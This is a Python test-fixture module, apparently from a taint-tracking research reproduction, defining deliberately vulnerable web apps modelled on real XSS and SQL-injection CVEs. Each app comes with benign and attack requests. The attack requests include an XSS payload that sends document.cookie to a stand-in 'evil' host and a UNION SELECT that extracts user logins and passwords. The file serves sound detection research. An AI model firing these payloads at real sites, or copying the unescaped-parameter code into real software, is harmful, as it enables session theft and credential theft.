@@ -1,0 +1,205 @@
+"""Web-application vulnerabilities: XSS (Scry, php-stats, phpSysInfo)
+and SQL injection (phpMyFAQ).
+
+The XSS apps echo an untrusted request parameter into the HTML
+response; policy H5 fires when a tainted ``<script`` tag reaches the
+network.  The SQLi app splices a parameter into a query string; policy
+H3 fires on tainted SQL metacharacters at the query use point.
+"""
+
+from __future__ import annotations
+
+from repro.apps.vulnerable.common import Scenario, VulnerableApp
+
+#: Shared HTTP plumbing for the PHP-style applications.
+_HTTP_PRELUDE = """
+native int accept();
+native int recv(int fd, char *buf, int n);
+native int send(int fd, char *buf, int n);
+
+char request[512];
+char param[256];
+char response[2048];
+
+int get_param(char *key) {
+    char *p = strstr(request, key);
+    if (!p) {
+        return 0;
+    }
+    p = p + strlen(key);
+    int i = 0;
+    while (*p && *p != ' ' && *p != '&' && i < 200) {
+        param[i] = *p;
+        i++;
+        p++;
+    }
+    param[i] = 0;
+    return 1;
+}
+
+int send_response(int fd) {
+    send(fd, "HTTP/1.0 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n", 47);
+    send(fd, response, strlen(response));
+    return 0;
+}
+"""
+
+_SERVER_MAIN = """
+int main() {
+    int fd;
+    int served = 0;
+    while ((fd = accept()) >= 0) {
+        int n = recv(fd, request, 500);
+        if (n > 0) {
+            request[n] = 0;
+            handle(fd);
+            served++;
+        }
+    }
+    return served;
+}
+"""
+
+# --- Scry 1.1 (CVE-2007-1503): the gallery echoes the album parameter.
+_SCRY_SOURCE = _HTTP_PRELUDE + """
+int handle(int fd) {
+    response[0] = 0;
+    strcat(response, "<html><h1>Scry Gallery</h1><p>Album: ");
+    if (get_param("album=")) {
+        // BUG: the parameter is not HTML-escaped.
+        strcat(response, param);
+    } else {
+        strcat(response, "(all)");
+    }
+    strcat(response, "</p></html>");
+    send_response(fd);
+    return 0;
+}
+""" + _SERVER_MAIN
+
+SCRY = VulnerableApp(
+    name="scry",
+    cve="CVE-2007-1503",
+    language="PHP",
+    attack_type="Cross Site Scripting",
+    detection_policies=("H5",),
+    expected_policy="H5",
+    source=_SCRY_SOURCE,
+    benign=Scenario(requests=(b"GET /scry.php?album=vacation HTTP/1.0\r\n\r\n",)),
+    attack=Scenario(requests=(
+        b"GET /scry.php?album=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.0\r\n\r\n",
+    )),
+    compromised=lambda machine: any(
+        b"<script>" in bytes(conn.outbound) for conn in machine.net.completed
+    ),
+)
+
+# --- php-stats 0.1.9.1b (CVE-2006-0972): echoes a stats page parameter.
+_PHP_STATS_SOURCE = _HTTP_PRELUDE + """
+int handle(int fd) {
+    response[0] = 0;
+    strcat(response, "<html><title>php-stats</title><body>");
+    if (get_param("page=")) {
+        strcat(response, "<p>Statistics for page: ");
+        strcat(response, param);   // BUG: unescaped echo
+        strcat(response, "</p>");
+    }
+    strcat(response, "<p>Visits today: 1234</p></body></html>");
+    send_response(fd);
+    return 0;
+}
+""" + _SERVER_MAIN
+
+PHP_STATS = VulnerableApp(
+    name="php-stats",
+    cve="CVE-2006-0972",
+    language="PHP",
+    attack_type="Cross Site Scripting",
+    detection_policies=("H5",),
+    expected_policy="H5",
+    source=_PHP_STATS_SOURCE,
+    benign=Scenario(requests=(b"GET /php-stats.php?page=/index.html HTTP/1.0\r\n\r\n",)),
+    attack=Scenario(requests=(
+        b"GET /php-stats.php?page=<ScRiPt>alert(42)</ScRiPt> HTTP/1.0\r\n\r\n",
+    )),
+    compromised=lambda machine: any(
+        b"<ScRiPt>" in bytes(conn.outbound) for conn in machine.net.completed
+    ),
+)
+
+# --- phpSysInfo 2.3 (CVE-2005-0870): reflects the lng/template values.
+_PHPSYSINFO_SOURCE = _HTTP_PRELUDE + """
+int handle(int fd) {
+    response[0] = 0;
+    strcat(response, "<html><h2>System Information</h2>");
+    strcat(response, "<p>Uptime: 42 days</p>");
+    if (get_param("lng=")) {
+        strcat(response, "<p>Unknown language: ");
+        strcat(response, param);   // BUG: reflected without escaping
+        strcat(response, "</p>");
+    }
+    strcat(response, "</html>");
+    send_response(fd);
+    return 0;
+}
+""" + _SERVER_MAIN
+
+PHPSYSINFO = VulnerableApp(
+    name="phpsysinfo",
+    cve="CVE-2005-0870",
+    language="PHP",
+    attack_type="Cross Site Scripting",
+    detection_policies=("H5",),
+    expected_policy="H5",
+    source=_PHPSYSINFO_SOURCE,
+    benign=Scenario(requests=(b"GET /index.php?lng=en HTTP/1.0\r\n\r\n",)),
+    attack=Scenario(requests=(
+        b"GET /index.php?lng=<script>document.write(evil)</script> HTTP/1.0\r\n\r\n",
+    )),
+    compromised=lambda machine: any(
+        b"<script" in bytes(conn.outbound) for conn in machine.net.completed
+    ),
+)
+
+# --- phpMyFAQ 1.6.8 (CVE-2007-2338 class): the FAQ id parameter is
+# concatenated into the SQL query string.
+_PHPMYFAQ_SOURCE = _HTTP_PRELUDE + """
+native int sql_exec(char *q);
+
+char query[512];
+
+int handle(int fd) {
+    response[0] = 0;
+    strcat(response, "<html><h1>FAQ</h1>");
+    if (get_param("id=")) {
+        query[0] = 0;
+        strcat(query, "SELECT question, answer FROM faq WHERE id = '");
+        strcat(query, param);    // BUG: no quoting/escaping
+        strcat(query, "'");
+        sql_exec(query);
+        strcat(response, "<p>Result for entry ");
+        strcat(response, param);
+        strcat(response, "</p>");
+    }
+    strcat(response, "</html>");
+    send_response(fd);
+    return 0;
+}
+""" + _SERVER_MAIN
+
+PHPMYFAQ = VulnerableApp(
+    name="phpmyfaq",
+    cve="CVE-2007-2338",
+    language="PHP",
+    attack_type="SQL Command Injection",
+    detection_policies=("H3",),
+    expected_policy="H3",
+    source=_PHPMYFAQ_SOURCE,
+    benign=Scenario(requests=(b"GET /faq.php?id=42 HTTP/1.0\r\n\r\n",)),
+    attack=Scenario(requests=(
+        b"GET /faq.php?id=0'+UNION+SELECT+login,pass+FROM+users;-- HTTP/1.0\r\n\r\n",
+    )),
+    compromised=lambda machine: any(
+        "UNION" in q for q in machine.executed_queries
+    ),
+)
